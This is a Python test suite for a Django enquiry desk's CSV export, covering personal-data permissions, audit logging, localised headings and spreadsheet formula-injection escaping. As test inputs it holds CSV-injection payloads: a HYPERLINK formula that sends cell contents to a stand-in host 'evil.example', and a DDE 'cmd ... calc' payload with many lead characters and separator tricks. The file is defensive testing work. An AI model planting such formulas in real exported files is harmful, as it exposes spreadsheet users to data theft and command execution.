"""The exported table: harmless to whoever opens it, and without people unless one asks."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission

from contact.models import Step
from tests import factories, pages
from tests.contact.desk import LIST, PERSON

EXPORT = f"{LIST}export/"
WITHOUT, WITH = "Export without personal details", "Export with personal details"
FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'


@pytest.fixture
def browser(desk):
    return desk("enquiry-desk")


def rows(answer) -> list[list[str]]:
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def export(browser, button: str = WITHOUT, query: str = ""):
    return pages.press(browser, browser.get(EXPORT + query), button)


def exported_names(desk, *names: str) -> dict[str, str]:
    """Return the cell that each name ends in."""
    numbers = {factories.enquiry(name=name).reference: name for name in names}
    headings, *found = rows(export(desk("administrator"), WITH))
    cells = {row[0]: row[headings.index("Name")] for row in found}
    return {name: cells[number] for number, name in numbers.items()}


def test_table_holds_what_the_desk_counts_and_nobody(browser):
    enquiry = factories.enquiry(sector="cars", owner=browser.user, **PERSON)
    answer = export(browser)
    assert "enquiries-2026-03-09.csv" in answer["Content-Disposition"]
    headings, row = rows(answer)
    assert dict(zip(headings, row, strict=True)) == {
        "Number": enquiry.reference,
        "About": "Investing and opportunities",
        "Sector": "Cars and parts",
        "Written on the page in": "English",
        "Answer in": "English",
        "Received": "2026-03-09 10:00",
        "Answer due": "2026-03-11",
        "State": "open",
        "In the hands of": "enquiry-desk",
        "First answered": "",
        "Closed": "",
        "Erased": "",
    }
    assert not any(value in answer.content.decode() for value in PERSON.values())
    assert not Step.objects.exists()


def test_table_holds_the_list_it_was_asked_from(browser):
    wanted = factories.enquiry(kind="media", state="answered")
    factories.enquiry(kind="media")
    factories.enquiry(state="answered")
    page = browser.get(LIST, {"list": "answered", "kind": "media"})
    assert 'href="export/?' in page.content.decode()
    query = "?list=answered&kind=media"
    assert "has 1 enquiry" in pages.text(browser.get(EXPORT + query))
    answer = browser.post(EXPORT + query)
    assert [row[0] for row in rows(answer)[1:]] == [wanted.reference]


def test_headings_are_in_the_language_of_the_person(desk):
    factories.enquiry(kind="media")
    browser = desk("enquiry-desk", interface_language="zh-hans")
    headings, row = rows(export(browser, "导出（不含个人信息）"))
    assert headings[:3] == ["编号", "咨询事项", "行业"]
    assert "新闻与媒体" in row


def test_enquiry_desk_cannot_export_personal_details(browser):
    factories.enquiry(**PERSON)
    assert WITH not in pages.buttons(browser.get(EXPORT))
    assert browser.post(EXPORT, {"_personal": "1"}).status_code == 403
    assert not Step.objects.exists()


def test_export_with_personal_details_is_noted_at_each_enquiry(desk):
    first, second = factories.enquiry(**PERSON), factories.enquiry(**PERSON)
    gone = factories.enquiry(name="", erased_at=factories.PAST)
    browser = desk("administrator")
    headings, *found = rows(export(browser, WITH))
    assert headings[-7:] == [
        "Name",
        "E-mail address",
        "Organisation",
        "Country or region",
        "Telephone",
        "About the page",
        "Question",
    ]
    assert sorted(row[-7] for row in found) == ["", PERSON["name"], PERSON["name"]]
    noted = Step.objects.filter(verb="exported", by=browser.user)
    assert {step.enquiry for step in noted} == {first, second}
    assert not gone.steps.exists()
    page = browser.get(f"{LIST}{first.pk}/change/")
    assert "in an export" in pages.text(page).split("Who has seen")[1]


def test_permission_can_be_given_to_somebody_of_the_desk(browser):
    factories.enquiry(**PERSON)
    permission = Permission.objects.get(codename="export_personal_enquiry")
    browser.user.user_permissions.add(permission)
    assert WITH in pages.buttons(browser.get(EXPORT))


STARTS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"]
BEFORE = ["", " ", "   ", "\u3000", "\u00a0", '"', "'", " '\"", "\ufeff"]


def test_no_cell_is_carried_out_as_a_formula(desk):
    names = [f"{before}{start}cmd|' /C calc'!A0" for start in STARTS for before in BEFORE]
    assert exported_names(desk, *names) == {name: f"'{name}" for name in names}


def test_no_cell_begins_with_a_sign_that_spreadsheets_drop(desk):
    cells = exported_names(desk, "\t=1+1", "\r=1+1", "\n=1+1", FORMULA)
    for name, cell in cells.items():
        assert cell.startswith("'"), name
        assert cell.replace("'", "") == name


def test_no_formula_waits_behind_what_other_countries_separate_cells_by(desk):
    # Excel in German or French parts this file at semicolons and takes no heed of later quotes.
    wanted = {
        "Ada;=1+1;x": "Ada;'=1+1;x",
        "Ada\t@SUM(1)": "Ada\t'@SUM(1)",
        "Ada\n\n =1+1\nx": "Ada\n\n' =1+1\nx",
        'A"\n"=1+1': 'A"\n\'"=1+1',
        "Ada;＝1+1": "Ada;'＝1+1",
    }
    assert exported_names(desk, *wanted) == wanted


def test_text_stays_in_its_cell(desk):
    names = ['Ada","=1+1', "Ada; Eve - x", "O’Neill-Müller 王"]
    assert exported_names(desk, *names) == {name: name for name in names}


def test_table_asks_as_many_questions_for_many_enquiries_as_for_one(
    browser, django_assert_max_num_queries
):
    for number in range(20):
        owner = factories.person("enquiry-desk", f"colleague-{number}")
        factories.enquiry(owner=owner)
    with django_assert_max_num_queries(12):
        assert len(rows(browser.post(EXPORT))) == 21
